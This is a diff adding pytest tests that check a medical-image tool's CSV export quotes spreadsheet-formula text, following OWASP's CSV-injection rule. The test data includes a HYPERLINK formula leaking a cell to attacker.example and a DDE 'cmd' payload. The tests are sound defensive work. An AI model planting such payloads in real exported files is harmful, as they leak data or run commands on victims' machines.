@@ -112,6 +112,41 @@ def test_csv_has_one_row_per_file_and_model_and_keeps_rejected_files(record, exp
         assert {key: row[key] for key in wanted} == wanted
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://attacker.example/?leak="&A1,"chest.png")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,1)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_csv_text_a_spreadsheet_would_run_as_a_formula_is_quoted(text):
+    """OWASP's rule: a text cell starting with = + - @ tab or CR gets a leading single quote."""
+    record = file_record(text, error=f"{text}: not an image", warning=text)
+    (row,) = csv_rows(to_csv([record]))[1]
+    assert row["file"] == "'" + text
+    assert row["warning"] == "'" + text
+    assert row["error"] == f"'{text}: not an image"
+
+
+def test_csv_numbers_stay_numbers_and_plain_text_stays_as_is():
+    """A negative number is a value, not a formula: only text cells are quoted."""
+    record = file_record(
+        "IM-0001-0001.dcm",
+        task="xray-pneumonia",
+        modality=ModalityAssessment("xray", -0.75, "gate").to_dict(),
+        results=[pneumonia_result("-lite0", "efficientnet_lite0", 0.8, 0.4)],
+    )
+    (row,) = csv_rows(to_csv([record]))[1]
+    assert row["file"] == "IM-0001-0001.dcm"
+    assert row["modality_score"] == "-0.75"
+    assert row["model"] == "'-lite0"
+    assert row["positive_probability"] == "0.8"
+
+
 @pytest.mark.parametrize("records", [[GOOD, REJECTED], [REJECTED, GOOD]], ids=["good first", "rejected first"])
 def test_json_lines_give_one_parseable_line_per_record_in_order(records):
     lines = to_json_lines(records).splitlines()
